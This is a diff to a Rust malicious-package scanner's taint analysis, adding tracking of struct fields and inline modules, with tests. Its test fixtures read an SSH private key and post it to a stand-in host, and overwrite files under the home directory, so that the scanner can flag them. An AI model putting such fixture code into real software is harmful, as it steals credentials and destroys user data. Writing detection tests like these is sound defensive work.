@@ -13,8 +13,11 @@
 //!
 //! The unit of precision is a statement: a statement's value is tainted by every identifier it
 //! uses and by the sources seen on its lines that no inner statement claims. That over-approximates
-//! (a field of a tainted struct taints the whole struct) but never needs types, which the scanner
-//! does not have. The syntax front end ([`super::syntax`]) records the statements; the signals
+//! (a field of a tainted local taints the whole local) but needs few types, which the scanner
+//! does not have. Fields of the crate's structs are the exception: what is written to
+//! `Plan.roots` (by a struct literal, or `self.roots = …` in a method) is what every method of
+//! `Plan` reads as `self.roots`, and a method called on `self.rule` is one of the field's
+//! declared type. The syntax front end ([`super::syntax`]) records the statements; the signals
 //! the collector found say where sources and sinks are; [`flows`] returns a
 //! [`SignalKind::Flow`] for each source that reaches a sink, located at the sink.
 
@@ -23,7 +26,7 @@ use std::collections::{BTreeMap, HashMap};
 use super::context::Context;
 use super::signal::{HostClass, ProgramClass, Sensitivity, Signal, SignalKind};
 use super::vocabulary::{
-    CLIPBOARD_READS, CLIPBOARD_WRITES, COMMON_METHODS, REQUEST_VERBS, SENDING_METHODS,
+    CLIPBOARD_READS, CLIPBOARD_WRITES, COMMON_METHODS, REQUEST_VERBS, SENDING_METHODS, STD_MODULES,
 };
 
 /// One statement or binding of a function body (or a file-level constant).
@@ -55,6 +58,9 @@ pub struct CallSite {
     pub on_self: bool,
     /// The variable a method is called on (`stream` in `stream.write_all(…)`).
     pub receiver: Option<String>,
+    /// The field of `self` a method is called on (`rule` in `self.rule.apply(…)`): the method
+    /// is the one of the field's declared type.
+    pub receiver_field: Option<String>,
     /// Where a chain of calls starts when it is not a variable: the variable it starts from
     /// (`client` in `client.post(url).body(data)`), or, for a chain that starts with an HTTP or
     /// socket crate's function (`reqwest::Client::new().post(url)…`), that it does.
@@ -109,6 +115,13 @@ pub struct FileFlow {
     /// …); }`): a call of one of those names on a value of unknown type may be a call through
     /// the trait, to any implementation of it.
     pub trait_methods: Vec<(String, String)>,
+    /// The named fields of the file's structs (outside test code), with the types whose methods
+    /// a call on the field reaches (`rule: Rule` → (`Plan`, `rule`, [`Rule`]); `Box<dyn Step>`
+    /// → [`Step`]; a `Vec<Node>` has methods of its own, not `Node`'s).
+    pub field_types: Vec<(String, String, Vec<String>)>,
+    /// The modules written inline in the file (`mod legacy { … }`): `legacy::target()` is the
+    /// crate's own function, as `retain::collect()` is for a module of its own file.
+    pub modules: Vec<String>,
 }
 
 /// Where a value comes from.
@@ -166,7 +179,7 @@ const SOURCES: [Source; 15] = [
 ];
 
 impl Source {
-    fn bit(self) -> u64 {
+    const fn bit(self) -> u64 {
         1 << (self as u32)
     }
 
@@ -330,6 +343,12 @@ struct Summary {
     /// Per parameter: the sources the function hands it when it calls it (`f(&path)` in a walk
     /// that takes a callback): what the caller's closure is called with.
     param_called: Vec<u64>,
+    /// The fields of the crate's structs it writes (`Plan.roots`, written by a struct literal
+    /// or by `self.roots = …` in a method of `Plan`), with the sources it writes there.
+    fields: BTreeMap<String, u64>,
+    /// Per parameter: the fields it is written into (`Plan { roots: vec![dir] }`): what the
+    /// caller hands in lands there.
+    param_fields: Vec<std::collections::BTreeSet<String>>,
 }
 
 /// Where one statement's own signals are.
@@ -495,6 +514,12 @@ fn flows_in_target(
         for part in file.file.trim_end_matches(".rs").split('/') {
             modules.insert(part);
         }
+        modules.extend(
+            file.modules
+                .iter()
+                .map(String::as_str)
+                .filter(|name| STD_MODULES.binary_search(name).is_err()),
+        );
     }
     for file in files {
         for function in file.functions.iter().filter(|f| !f.test) {
@@ -649,6 +674,25 @@ fn flows_in_target(
             }
         }
     }
+    let field_types = StructFields::new(files);
+    // The fields each function reads or writes, by the names its statements use for them
+    // (`self.roots`, `Plan.roots`), with the name they are stored under: found once.
+    let field_keys: HashMap<u32, HashMap<&str, String>> = by_scope
+        .values()
+        .filter_map(|function| {
+            let names = function
+                .statements
+                .iter()
+                .flat_map(|s| s.uses.iter().chain(&s.defs))
+                .chain(function.calls.iter().flat_map(|c| c.args.iter().flatten()))
+                .filter(|name| name.contains('.'));
+            let keys: HashMap<&str, String> = names
+                .filter_map(|name| Some((name.as_str(), field_types.field_key(function, name)?)))
+                .collect();
+            (!keys.is_empty()).then_some((function.scope, keys))
+        })
+        .collect();
+    let no_keys = HashMap::new();
     // What each call may reach, found once.
     let call_callees: HashMap<(u32, usize), Vec<u32>> = by_scope
         .values()
@@ -657,15 +701,17 @@ fn flows_in_target(
             let by_name = &by_name;
             let trait_methods = &trait_methods;
             let tables = &tables;
+            let field_types = &field_types;
             let bindings = std::cell::OnceCell::new();
             function.calls.iter().enumerate().map(move |(index, call)| {
                 if let Some(found) = through_table(by_name, tables, function, &bindings, call) {
                     return ((function.scope, index), found);
                 }
-                let found: Vec<u32> = callees(by_name, modules, trait_methods, function, call)
-                    .map(|f| f.scope)
-                    .take(MAX_CALLEES + 1)
-                    .collect();
+                let found: Vec<u32> =
+                    callees(by_name, modules, trait_methods, field_types, function, call)
+                        .map(|f| f.scope)
+                        .take(MAX_CALLEES + 1)
+                        .collect();
                 let found = if found.len() > MAX_CALLEES {
                     Vec::new()
                 } else {
@@ -720,6 +766,13 @@ fn flows_in_target(
     functions.sort_by_key(|f| f.scope);
     for _round in 0..16 {
         let mut changed = false;
+        // What the functions write into the fields of the crate's structs, as of the last round.
+        let mut fields: HashMap<String, u64> = HashMap::new();
+        for summary in summaries.values() {
+            for (field, &bits) in &summary.fields {
+                *fields.entry(field.clone()).or_default() |= bits;
+            }
+        }
         for function in &functions {
             if over_budget() {
                 return false;
@@ -737,6 +790,8 @@ fn flows_in_target(
                 destinations: &destinations,
                 clipboard_tools: &clipboard_tools,
                 clipboard_writers: &clipboard_writers,
+                fields: &fields,
+                field_keys: field_keys.get(&function.scope).unwrap_or(&no_keys),
             };
             let summary = analyse_function(function, &target, &summaries, &mut found);
             if summaries.get(&function.scope) != Some(&summary) {
@@ -854,8 +909,9 @@ fn reported_rewrite(function: &FunctionFlow, write_line: u32) -> Option<(String,
         .map(|call| (call.callee.clone(), call.line))
 }
 
-/// The crate's functions a call may reach, without types: for a call on `self`, the caller's
-/// type's methods of that name; for a method call on anything else, the crate's one method of
+/// The crate's functions a call may reach, with few types: for a method called on a field of
+/// `self`, the methods of that name of the field's declared type, when the crate has any; for a
+/// call on `self`, the caller's type's methods of that name; for a method call on anything else, the crate's one method of
 /// that name, unless the name is common ([`COMMON_METHODS`]: `map.get(k)` is not the crate's
 /// `get`), or every method of a name one of the crate's traits declares (a call through a trait
 /// object, `step.apply(&payload)`, reaches any of its implementations); for a call through a
@@ -864,12 +920,27 @@ fn callees<'f>(
     by_name: &'f HashMap<&str, Vec<&'f FunctionFlow>>,
     modules: &'f std::collections::HashSet<&str>,
     trait_methods: &'f HashMap<&str, Vec<&str>>,
+    field_types: &'f StructFields<'f>,
     caller: &'f FunctionFlow,
     call: &'f CallSite,
 ) -> impl Iterator<Item = &'f FunctionFlow> + 'f {
     let candidates = by_name
         .get(call.callee.as_str())
         .map_or(&[][..], Vec::as_slice);
+    // A method called on a field of `self` (`self.rule.apply(…)`): the method of the field's
+    // declared type, or of a trait it names (`Box<dyn Rule>`), when the crate has one.
+    let of_field: &[String] = match (&call.receiver_field, &caller.owner) {
+        (Some(field), Some(owner)) => field_types.types(caller.scope, owner, field),
+        _ => &[],
+    };
+    let field_type = |function: &FunctionFlow| {
+        function.method
+            && [&function.owner, &function.implements]
+                .into_iter()
+                .flatten()
+                .any(|name| of_field.contains(name))
+    };
+    let by_field_type = !of_field.is_empty() && candidates.iter().any(|f| field_type(f));
     // The traits of the crate that declare the method called: their implementations only (an
     // inherent `get` of another type is not reached through a trait's `get`).
     let declaring: &[&str] = if call.method && !call.on_self {
@@ -885,6 +956,9 @@ fn callees<'f>(
         && !COMMON_METHODS.contains(&call.callee.as_str())
         && candidates.iter().filter(|f| f.method).take(2).count() == 1;
     candidates.iter().copied().filter(move |function| {
+        if by_field_type {
+            return field_type(function);
+        }
         if call.method {
             return function.method
                 && if call.on_self {
@@ -945,6 +1019,120 @@ struct Target<'t> {
     /// Clipboard writes that are calls of a function named so, by signal: the path before the
     /// name (`clipboard` in `clipboard::set_text`), if any, and the name.
     clipboard_writers: &'t HashMap<usize, (Option<&'t str>, &'t str)>,
+    /// What the crate's functions write into the fields of its structs, by the names
+    /// [`StructFields::key`] gives them.
+    fields: &'t HashMap<String, u64>,
+    /// The fields the function names, by the name its statements use, with the name each is
+    /// stored under ([`StructFields::field_key`]).
+    field_keys: &'t HashMap<&'t str, String>,
+}
+
+/// The fields of a target's structs: their declared types, and the name each is stored under.
+struct StructFields<'f> {
+    /// The file each function is in.
+    file_of: HashMap<u32, &'f str>,
+    /// Struct names declared in more than one file (a `Builder` per module): their fields are
+    /// told apart by the file, and a method reaches them only from that file.
+    ambiguous: std::collections::HashSet<&'f str>,
+    /// The declared types of each field, by (file, struct, field).
+    types: HashMap<(&'f str, &'f str, &'f str), &'f [String]>,
+    /// The same for structs declared once, by (struct, field).
+    unique: HashMap<(&'f str, &'f str), &'f [String]>,
+}
+
+impl<'f> StructFields<'f> {
+    fn new(files: &[&'f FileFlow]) -> Self {
+        let mut declared_in: HashMap<&str, &str> = HashMap::new();
+        let mut ambiguous = std::collections::HashSet::new();
+        let mut types = HashMap::new();
+        for file in files {
+            for (owner, field, declared) in &file.field_types {
+                match declared_in.insert(owner, &file.file) {
+                    Some(other) if other != file.file => {
+                        ambiguous.insert(owner.as_str());
+                    }
+                    _ => {}
+                }
+                types.insert(
+                    (file.file.as_str(), owner.as_str(), field.as_str()),
+                    declared.as_slice(),
+                );
+            }
+        }
+        let unique = types
+            .iter()
+            .filter(|((_, owner, _), _)| !ambiguous.contains(owner))
+            .map(|(&(_, owner, field), &declared)| ((owner, field), declared))
+            .collect();
+        let file_of = files
+            .iter()
+            .flat_map(|file| file.functions.iter().map(|f| (f.scope, file.file.as_str())))
+            .collect();
+        StructFields {
+            file_of,
+            ambiguous,
+            types,
+            unique,
+        }
+    }
+
+    /// The name a field of `owner` is stored under, for a function: `Plan.roots`, or
+    /// `src/retain.rs#Plan.roots` for a struct name several files declare.
+    fn key(&self, scope: u32, owner: &str, field: &str) -> String {
+        match self.file_of.get(&scope) {
+            Some(file) if self.ambiguous.contains(owner) => format!("{file}#{owner}.{field}"),
+            _ => format!("{owner}.{field}"),
+        }
+    }
+
+    /// The name a field named so in a function's statements is stored under: `self.roots` in a
+    /// method of `Plan`, and a struct literal's `Self.roots` there, are `Plan.roots`; a literal's
+    /// `Plan.roots` is so.
+    fn field_key(&self, function: &FunctionFlow, name: &str) -> Option<String> {
+        let key = |owner: &str, field: &str| self.key(function.scope, owner, field);
+        match name
+            .strip_prefix("self.")
+            .or_else(|| name.strip_prefix("Self."))
+        {
+            Some(field) => function.owner.as_deref().map(|owner| key(owner, field)),
+            None => name.split_once('.').map(|(owner, field)| key(owner, field)),
+        }
+    }
+
+    /// The types a field of `owner` is declared with, seen from a function.
+    fn types(&self, scope: u32, owner: &str, field: &str) -> &'f [String] {
+        let here = self
+            .file_of
+            .get(&scope)
+            .and_then(|file| self.types.get(&(*file, owner, field)));
+        here.or_else(|| self.unique.get(&(owner, field)))
+            .copied()
+            .unwrap_or_default()
+    }
+}
+
+/// Sources a field of a struct does not carry (see [`write_field`]).
+const FIELD_EXCLUDED: u64 =
+    Source::Clipboard.bit() | Source::Network.bit() | Source::ShellProcess.bit();
+
+/// Records that a function writes `bits` into a field: the sources for every reader of the
+/// field, the parameters for every caller. Fields carry what the code found or was given
+/// (paths, secrets, walked files, decoded data, hidden destinations), not live handles and
+/// streams, whose fields are judged by their declared type (see `syntax`'s connection fields):
+/// a client's configuration kept beside its connection would otherwise carry the connection
+/// into every method. Nor the clipboard: a history of what was copied, kept in a field and put
+/// back when the user picks an entry, is what clipboard managers are for, and a field cannot
+/// tell that write-back from a swap.
+fn write_field(summary: &mut Summary, key: String, bits: u64) {
+    for param in params_of(bits) {
+        if let Some(fields) = summary.param_fields.get_mut(param) {
+            fields.insert(key.clone());
+        }
+    }
+    let kept = bits & SOURCE_MASK & !FIELD_EXCLUDED;
+    if kept != 0 {
+        *summary.fields.entry(key).or_default() |= kept;
+    }
 }
 
 /// One pass over a function with the current summaries: its own summary, and the flows found.
@@ -967,6 +1155,8 @@ fn analyse_function(
         destinations,
         clipboard_tools,
         clipboard_writers,
+        fields,
+        field_keys,
     } = *target;
     let no_callees = Vec::new();
     let callees_of = |index: usize| {
@@ -981,6 +1171,8 @@ fn analyse_function(
         param_meets: vec![0; params],
         param_fills: vec![0; params],
         param_called: vec![0; params],
+        fields: BTreeMap::new(),
+        param_fields: vec![std::collections::BTreeSet::new(); params],
     };
     let mut locals: HashMap<&str, u64> = HashMap::new();
     for (index, names) in function.params.iter().take(MAX_PARAMS).enumerate() {
@@ -989,7 +1181,17 @@ fn analyse_function(
         }
     }
     let taint_of = |locals: &HashMap<&str, u64>, name: &str| -> u64 {
-        locals.get(name).copied().unwrap_or(0) | globals.get(name).copied().unwrap_or(0)
+        // A field of `self` holds what the crate's functions write into it.
+        let written = if name.starts_with("self.") {
+            field_keys
+                .get(name)
+                .and_then(|key| fields.get(key))
+                .copied()
+                .unwrap_or(0)
+        } else {
+            0
+        };
+        locals.get(name).copied().unwrap_or(0) | globals.get(name).copied().unwrap_or(0) | written
     };
     let param_index = |name: &str| {
         function
@@ -1049,11 +1251,17 @@ fn analyse_function(
     let mut returns_by_call: HashMap<usize, Vec<(&CallSite, u64)>> = HashMap::new();
     let mut sends_on: HashMap<usize, Vec<&str>> = HashMap::new();
     let mut sends_fresh: std::collections::HashSet<usize> = std::collections::HashSet::new();
+    // The calls whose result carries something, with their line and name: handed straight to
+    // another call (`Plan::new(home())`), that result is the argument.
+    let mut returning: Vec<(usize, u32, &str, u64)> = Vec::new();
     for (call_index, call) in function.calls.iter().enumerate() {
         let returns = callees_of(call_index)
             .iter()
             .filter_map(|callee| summaries.get(callee))
             .fold(0, |all, summary| all | summary.returns);
+        if returns != 0 {
+            returning.push((call_index, call.line, call.callee.as_str(), returns));
+        }
         // A request's verb sends where it is called on a client handed in or built in the chain.
         let on_client = call
             .receiver
@@ -1125,15 +1333,27 @@ fn analyse_function(
             // with a command line from the network, which is the remote-control rule's).
             let mut uses_network = false;
             let mut used = 0;
+            // What the fields of a struct literal in the statement were written with: part of
+            // this statement's own expression, not another statement's value.
+            let mut literal_fields = 0;
             for name in &statement.uses {
                 let taint = taint_of(&locals, name);
                 uses_network |= taint & Source::Network.bit() != 0;
-                used |= taint;
+                if name.contains('.') && !name.starts_with("self.") {
+                    literal_fields |= taint;
+                } else {
+                    used |= taint;
+                }
             }
+            let from_elsewhere = used;
+            used |= literal_fields;
             bits |= used;
             for def in &statement.defs {
                 if let Some(param) = param_index(def) {
                     summary.param_fills[param] |= bits & SOURCE_MASK;
+                }
+                if let (Some(key), true) = (field_keys.get(def.as_str()), bits != 0) {
+                    write_field(&mut summary, key.clone(), bits);
                 }
                 let entry = locals.entry(def.as_str()).or_default();
                 changed |= *entry | bits != *entry;
@@ -1268,7 +1488,7 @@ fn analyse_function(
                 // another statement.
                 let tool_row = sink == Sink::Clipboard
                     && clipboard_tools.contains(&signal)
-                    && (used | call_returns.get(&index).copied().unwrap_or(0))
+                    && (from_elsewhere | call_returns.get(&index).copied().unwrap_or(0))
                         & Source::Clipboard.bit()
                         == 0;
                 for source in sources_of(bits) {
@@ -1322,9 +1542,18 @@ fn analyse_function(
         }
         for (position, arg) in call.args.iter().enumerate() {
             let written = call.arg_lines.get(position).map_or(0, |&(first, last)| {
+                let called_in_it = returning
+                    .iter()
+                    .filter(|&&(other, line, callee, _)| {
+                        other != call_index
+                            && first <= line
+                            && line <= last
+                            && arg.iter().any(|name| name == callee)
+                    })
+                    .fold(0, |all, &(_, _, _, returns)| all | returns);
                 (first..=last)
                     .filter_map(|line| line_sources.get(&(function.scope, line)))
-                    .fold(0, |a, b| a | b)
+                    .fold(called_in_it, |a, b| a | b)
             });
             let bits = arg
                 .iter()
@@ -1353,6 +1582,15 @@ fn analyse_function(
                         }
                     }
                 }
+                // Handed to a function that keeps it in a field (`Plan::new(home)`).
+                for field in callee_summary
+                    .param_fields
+                    .get(position)
+                    .into_iter()
+                    .flatten()
+                {
+                    write_field(&mut summary, field.clone(), bits);
+                }
                 // A connection handed to a function that puts a secret into what it is given.
                 if let Some(&meets) = callee_summary.param_meets.get(position) {
                     if bits & Source::Network.bit() != 0 {
@@ -1378,6 +1616,7 @@ mod tests {
     use wharf_tarball::test_support::TarballBuilder;
     use wharf_tarball::{process_tarball, Limits};
 
+    use super::{Sink, Source};
     use crate::scan::{scan_package, SignalKind};
     use crate::Verdict;
 
@@ -1979,6 +2218,326 @@ pub fn go(dir: &std::path::Path) { let r = collect(dir); send(&r); }
         // A formatter rewrites the files of the directory it is given.
         let found = findings(&wipe("dir"));
         expect(&found, super::super::rules::DESTRUCTIVE, None);
+    }
+
+    /// A retention plan that keeps where it sweeps in a field: `{build}` fills `roots` (with the
+    /// home directory when `{root}` is `home()`), and another method walks `self.roots` and
+    /// hands each file to a method of the field `mode`'s type, which overwrites it.
+    fn kept_roots(build: &str, root: &str) -> String {
+        format!(
+            r#"
+            use std::path::{{Path, PathBuf}};
+            #[derive(Clone, Copy)]
+            enum Mode {{ Keep, Pad }}
+            impl Mode {{
+                fn apply(self, path: &Path) {{
+                    if let Mode::Pad = self {{
+                        let _ = std::fs::write(path, [0x2a; 64]);
+                    }}
+                }}
+            }}
+            /// Another `apply`, so that only the field's type says which one is called.
+            pub struct Other;
+            impl Other {{
+                pub fn apply(&self, _: &Path) {{}}
+            }}
+            fn home() -> PathBuf {{
+                std::env::var_os("HOME").map(PathBuf::from).unwrap_or_default()
+            }}
+            pub struct Plan {{ mode: Mode, roots: Vec<PathBuf> }}
+            impl Plan {{
+                {build}
+                pub fn run(&self) {{
+                    for root in &self.roots {{
+                        self.walk(root);
+                    }}
+                }}
+                fn walk(&self, dir: &Path) {{
+                    for entry in std::fs::read_dir(dir).unwrap().flatten() {{
+                        let path = entry.path();
+                        self.mode.apply(&path);
+                    }}
+                }}
+            }}
+            pub fn tidy(dir: &Path) {{
+                let _ = dir;
+                if std::env::var("LANG").unwrap_or_default().starts_with("xx") {{
+                    Plan::new({root}).run();
+                }}
+            }}"#
+        )
+    }
+
+    #[test]
+    fn a_directory_kept_in_a_field_is_what_another_method_walks() {
+        let destructive = super::super::rules::DESTRUCTIVE;
+        // Written by a struct literal (`Self { roots: … }`, field by field), by a constructor's
+        // parameter, or by an assignment to `self.roots` in a method.
+        let literal = "fn new(root: PathBuf) -> Self { let roots = vec![root]; Self { mode: Mode::Pad, roots } }";
+        let assigned = "fn new(root: PathBuf) -> Self { let mut plan = Plan { mode: Mode::Pad, roots: Vec::new() }; plan.keep(root); plan }\n\
+                        fn keep(&mut self, root: PathBuf) { self.roots = vec![root]; }";
+        for build in [literal, assigned] {
+            expect(
+                &findings(&kept_roots(build, "home()")),
+                destructive,
+                Some(Verdict::Hold),
+            );
+            // The caller's own directory: a formatter of what it is given.
+            expect(
+                &findings(&kept_roots(build, "dir.to_path_buf()")),
+                destructive,
+                None,
+            );
+        }
+        // Found at its own call, inside the literal: `Plan { roots: vec![home()] }`.
+        let found = findings(&kept_roots(
+            "fn new(_: PathBuf) -> Self {\n Plan {\n mode: Mode::Pad,\n roots: vec![home()],\n }\n }",
+            "PathBuf::new()",
+        ));
+        expect(&found, destructive, Some(Verdict::Hold));
+        // A method of the field's type, not any `apply`: another type's that overwrites is
+        // not reached through the field.
+        let harmless = kept_roots(literal, "home()")
+            .replace("let _ = std::fs::write(path, [0x2a; 64]);", "let _ = path;")
+            .replace(
+                "pub fn apply(&self, _: &Path) {}",
+                "pub fn apply(&self, path: &Path) { let _ = std::fs::write(path, [0x2a; 64]); }",
+            );
+        expect(&findings(&harmless), destructive, None);
+        // A container's methods are its own: `insert` on a map of `Cache`s is not `Cache`'s.
+        let container = r#"
+            use std::path::{Path, PathBuf};
+            pub struct Cache;
+            impl Cache {
+                pub fn insert(&self, path: &Path) { let _ = std::fs::write(path, [0u8; 8]); }
+            }
+            pub struct Index { seen: std::collections::HashMap<PathBuf, Cache> }
+            impl Index {
+                pub fn scan(&mut self) {
+                    if std::env::var("LANG").unwrap_or_default().starts_with("xx") {
+                        let home = std::env::var_os("HOME").map(PathBuf::from).unwrap_or_default();
+                        for entry in std::fs::read_dir(&home).unwrap().flatten() {
+                            let path = entry.path();
+                            self.seen.insert(&path, Cache);
+                        }
+                    }
+                }
+            }"#;
+        expect(&findings(container), destructive, None);
+        let boxed = container.replace(
+            "seen: std::collections::HashMap<PathBuf, Cache>",
+            "seen: std::sync::Arc<Cache>",
+        );
+        expect(&findings(&boxed), destructive, Some(Verdict::Hold));
+        // An enum variant's fields are not a struct's of the same name.
+        let variant = kept_roots(literal, "PathBuf::new()").replace(
+            "pub struct Plan {",
+            "pub enum Event { Plan { roots: Vec<PathBuf> } }\npub struct Plan {",
+        ) + "\npub fn event() -> Event { Event::Plan { roots: vec![home()] } }";
+        expect(&findings(&variant), destructive, None);
+    }
+
+    #[test]
+    fn a_function_of_an_inline_module_is_the_crates_own() {
+        let source = kept_roots(
+            "fn new(root: PathBuf) -> Self { Self { mode: Mode::Pad, roots: vec![root] } }",
+            "legacy::base()",
+        )
+            + "\nmod legacy { pub(super) fn base() -> std::path::PathBuf { super::home() } }";
+        expect(
+            &findings(&source),
+            super::super::rules::DESTRUCTIVE,
+            Some(Verdict::Hold),
+        );
+        // An inline module named like one of std's (`mod env { … }`, a crate's table of
+        // variable names) does not make every `std::env::var(…)` a call of its `var`.
+        let shadowing = r#"
+            mod env {
+                pub fn var(_: &str) -> Result<String, ()> {
+                    let home = std::env::var_os("HOME").unwrap_or_default();
+                    let key = std::path::Path::new(&home).join(".ssh/id_ed25519");
+                    Ok(std::fs::read_to_string(key).unwrap_or_default())
+                }
+            }
+            pub fn report() {
+                let region = std::env::var("REGION").unwrap_or_default();
+                let _ = ureq::post("https://collect.invalid/r").send_string(&region);
+            }"#;
+        expect(
+            &findings(shadowing),
+            super::super::rules::EXFILTRATION,
+            None,
+        );
+    }
+
+    /// Two files declare a `Builder`: what one keeps in its `dir` is not the other's.
+    #[test]
+    fn fields_of_same_named_structs_in_two_files_are_apart() {
+        let keeper = r#"
+            pub struct Builder { dir: std::path::PathBuf }
+            impl Builder {
+                pub fn new() -> Self {
+                    Builder { dir: std::env::var_os("HOME").map(Into::into).unwrap_or_default() }
+                }
+                pub fn entries(&self) -> usize {
+                    std::fs::read_dir(&self.dir).map(|d| d.count()).unwrap_or(0)
+                }
+            }"#;
+        let sweeper = r#"
+            pub struct Builder { dir: std::path::PathBuf }
+            impl Builder {
+                pub fn sweep(&self) {
+                    for entry in std::fs::read_dir(&self.dir).unwrap().flatten() {
+                        let _ = std::fs::write(entry.path(), [0u8; 8]);
+                    }
+                }
+            }"#;
+        let lib = "pub mod keep;\npub mod sweep;\npub fn gate() -> bool { std::env::var(\"LANG\").is_ok() }\n";
+        let tarball = TarballBuilder::new()
+            .file(
+                "flows-0.1.0/Cargo.toml",
+                "[package]\nname = \"flows\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\
+                 description = \"x\"\nlicense = \"MIT\"\n",
+            )
+            .file("flows-0.1.0/src/lib.rs", lib)
+            .file("flows-0.1.0/src/keep.rs", keeper)
+            .file("flows-0.1.0/src/sweep.rs", sweeper)
+            .build();
+        let tarball = process_tarball("flows", "0.1.0", &tarball, &Limits::default()).unwrap();
+        // The walk of the home directory in `keep.rs` is its own, not the sweeper's.
+        let sweeps_home = |report: &crate::scan::Report| {
+            report.signals.iter().any(|s| {
+                s.file == "src/sweep.rs"
+                    && matches!(
+                        s.kind,
+                        SignalKind::Flow {
+                            source: Source::UserDirectory,
+                            sink: Sink::Walk,
+                            ..
+                        }
+                    )
+            })
+        };
+        let report = scan_package(&tarball);
+        assert!(!sweeps_home(&report), "{:?}", report.signals);
+        // Declared once, the struct's fields are the same wherever its methods are.
+        let once = sweeper.replace("pub struct Builder { dir: std::path::PathBuf }", "");
+        let tarball = TarballBuilder::new()
+            .file(
+                "flows-0.1.0/Cargo.toml",
+                "[package]\nname = \"flows\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\
+                 description = \"x\"\nlicense = \"MIT\"\n",
+            )
+            .file("flows-0.1.0/src/lib.rs", lib)
+            .file("flows-0.1.0/src/keep.rs", keeper)
+            .file(
+                "flows-0.1.0/src/sweep.rs",
+                format!("use crate::keep::Builder;\n{once}"),
+            )
+            .build();
+        let tarball = process_tarball("flows", "0.1.0", &tarball, &Limits::default()).unwrap();
+        let report = scan_package(&tarball);
+        assert!(sweeps_home(&report), "{:?}", report.signals);
+        // A struct of a test module is no second declaration.
+        let tested = format!(
+            "{lib}\n#[cfg(test)]\nmod tests {{ pub struct Builder {{ dir: std::path::PathBuf }} }}"
+        );
+        let tarball = TarballBuilder::new()
+            .file(
+                "flows-0.1.0/Cargo.toml",
+                "[package]\nname = \"flows\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\
+                 description = \"x\"\nlicense = \"MIT\"\n",
+            )
+            .file("flows-0.1.0/src/lib.rs", tested)
+            .file("flows-0.1.0/src/keep.rs", keeper)
+            .file(
+                "flows-0.1.0/src/sweep.rs",
+                format!("use crate::keep::Builder;\n{once}"),
+            )
+            .build();
+        let tarball = process_tarball("flows", "0.1.0", &tarball, &Limits::default()).unwrap();
+        let report = scan_package(&tarball);
+        assert!(sweeps_home(&report), "{:?}", report.signals);
+    }
+
+    /// A method called on an expression (`self.0.get()`) is not the crate's free function of
+    /// that name.
+    #[test]
+    fn a_method_called_on_an_expression_is_no_free_function() {
+        let source = |call: &str| {
+            format!(
+                r#"
+                const COLLECT: &str = "https://collect.invalid/k";
+                pub fn get() -> String {{
+                    let home = std::env::var("HOME").unwrap();
+                    std::fs::read_to_string(format!("{{home}}/.ssh/id_ed25519")).unwrap_or_default()
+                }}
+                pub struct Id(std::cell::Cell<u32>);
+                impl Id {{
+                    fn code(&self) -> String {{ {call}.to_string() }}
+                    pub fn report(&self) {{
+                        let _ = ureq::post(COLLECT).send_string(&self.code());
+                    }}
+                }}"#
+            )
+        };
+        let exfiltration = super::super::rules::EXFILTRATION;
+        expect(&findings(&source("self.0.get()")), exfiltration, None);
+        expect(
+            &findings(&source("get()")),
+            exfiltration,
+            Some(Verdict::Hold),
+        );
+    }
+
+    /// `let (a, b) = (x, y)` gives `a` what `x` is, not what `y` is.
+    #[test]
+    fn each_name_of_a_tuple_binding_holds_its_own_value() {
+        let source = |sent: &str| {
+            format!(
+                r#"
+                const COLLECT: &str = "https://collect.invalid/k";
+                pub fn report() {{
+                    let home = std::env::var("HOME").unwrap();
+                    let read = std::fs::read_to_string(format!("{{home}}/.ssh/id_ed25519"));
+                    let (greeting, key) = (String::from("hello"), read);
+                    let _ = ureq::post(COLLECT).send_string(&{sent});
+                    let _ = key;
+                }}"#
+            )
+        };
+        let exfiltration = super::super::rules::EXFILTRATION;
+        expect(&findings(&source("greeting")), exfiltration, None);
+        expect(
+            &findings(&source("key.unwrap_or_default()")),
+            exfiltration,
+            Some(Verdict::Hold),
+        );
+    }
+
+    /// What was copied, kept in a field and put back on the clipboard when the user picks it,
+    /// is a clipboard history, not a swap.
+    #[test]
+    fn a_clipboard_history_kept_in_a_field_is_no_hijack() {
+        let source = r#"
+            pub struct Ring { entries: Vec<String> }
+            impl Ring {
+                pub fn capture(&mut self, board: &mut arboard::Clipboard) {
+                    if let Ok(text) = board.get_text() {
+                        self.entries.insert(0, text);
+                    }
+                }
+                pub fn pick(&mut self, index: usize, board: &mut arboard::Clipboard) {
+                    let entry = self.entries.remove(index);
+                    let _ = board.set_text(entry.clone());
+                    self.entries.insert(0, entry);
+                }
+            }"#;
+        expect(
+            &findings(source),
+            super::super::rules::CLIPBOARD_HIJACK,
+            None,
+        );
     }
 
     #[test]
